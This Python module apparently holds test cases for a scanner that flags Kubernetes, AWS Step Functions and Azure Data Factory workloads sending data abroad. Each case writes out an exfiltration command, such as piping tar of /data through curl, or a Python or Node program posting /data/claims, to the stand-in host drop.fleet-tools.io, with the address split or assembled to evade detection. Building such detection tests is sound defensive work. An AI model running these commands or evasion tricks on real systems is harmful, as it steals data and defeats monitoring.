"""Addresses that texts put together: the spellings beside those of the twenty-second set (2026-12-01)."""

from ..blind import RG, az, k8s, meta, workload
from ..harness import UNKNOWN, Given
from . import Attack
from .twenty_first_money import flow

ABROAD = ("FJ-RES-",)
PARTS = k8s("core/v1:ConfigMap", {"metadata": meta("parts"), "data": {
    "VENDOR": "drop.fleet-tools", "ENDING": "io"}}, "parts")  # fmt: skip
SENDS = "tar c /data | curl -sT - "
READS = "import requests\nrequests.post({}, data=open('/data/claims', 'rb'))"


def shell(command: str, **container: object) -> Given:
    """Returns a workload that runs a command of a shell."""
    return workload("apps/v1:Deployment", {**container, "command": ["sh", "-c", command]})


def python(address: str, before: str = "") -> Given:
    """Returns a workload that sends data by a program in Python."""
    return workload("apps/v1:Deployment", {"command": ["python3", "-c", before + READS.format(address)]})


def node(program: str) -> Given:
    """Returns a workload that runs a program of Node."""
    return workload("apps/v1:Deployment", {"command": ["node", "-e", program]})


def sends(endpoint: str) -> Given:
    """Returns a workflow in JSONata that sends its input."""
    return flow({"QueryLanguage": "JSONata", "StartAt": "s", "States": {"s": {
        "Type": "Task", "End": True, "Resource": "arn:aws:states:::http:invoke", "Arguments": {
            "ApiEndpoint": endpoint, "Method": "POST", "RequestBody": "{% $states.input %}",
            "Authentication": {"ConnectionArn": UNKNOWN}}}}})  # fmt: skip


def activity(url: str) -> Given:
    """Returns a pipeline of Data Factory that sends what another activity read."""
    return az("datafactory:Pipeline", {**RG, "factoryName": "f", "pipelineName": "p", "activities": [{
        "name": "send", "type": "WebActivity", "method": "POST", "body": "@activity('read').output",
        "url": {"value": url, "type": "Expression"}}]})  # fmt: skip


ATTACKS = (
    Attack("the parts of an address stand in a config map", ABROAD, (PARTS, shell(
        f"{SENDS}https://$VENDOR.$ENDING/in", envFrom=[{"configMapRef": {"name": "parts"}}])), "critical"),
    Attack("the parts of an address stand in single entries of a config map", ABROAD, (PARTS, shell(
        f"{SENDS}https://${{A}}.${{B}}/in", env=[
            {"name": name, "valueFrom": {"configMapKeyRef": {"name": "parts", "key": key}}}
            for name, key in (("A", "VENDOR"), ("B", "ENDING"))])), "critical"),
    Attack("the parts of an address have a prefix", ABROAD, (PARTS, shell(
        f"{SENDS}https://$TO_VENDOR.$TO_ENDING/in", envFrom=[{"prefix": "TO_", "configMapRef": {"name": "parts"}}])),
        "critical"),
    Attack("a workflow in JSONata joins an address", ABROAD, (
        sends("{% 'https://drop.' & 'fleet-tools' & '.io/in' %}"),), "critical"),
    Attack("a pipeline of Data Factory joins an address", ABROAD, (
        activity("@concat('https://drop.', 'fleet-tools', '.io/in')"),), "critical"),
    Attack("a pipeline of Data Factory fills in an address", ABROAD, (
        activity("@{format('https://{0}.{1}/in', 'drop.fleet-tools', 'io')}"),), "critical"),
    Attack("a shell fills in an address", ABROAD, (
        shell(f"{SENDS}$(printf 'https://%s.%s/in' drop.fleet-tools io)"),), "critical"),
    Attack("a shell leaves out quotes in an address", ABROAD, (shell(f"{SENDS}https://drop.fleet-tools.'i'o/in"),),
           "critical"),
    Attack("a program fills in an address by format", ABROAD, (
        python("'https://{}.{}/in'.format('drop.fleet-tools', 'io')"),), "critical"),
    Attack("a program fills in an address by a percent sign", ABROAD, (
        python("'https://%s.%s/in' % ('drop.fleet-tools', ending)", "ending = 'io'\n"),), "critical"),
    Attack("a program joins an address from variables", ABROAD, (node(
        "const host = 'drop.fleet-tools', ending = 'io'; fetch('https://' + host + '.' + ending + '/in', {method: "
        "'POST', body: require('fs').readFileSync('/data/claims')})"),), "critical"),
)  # fmt: skip
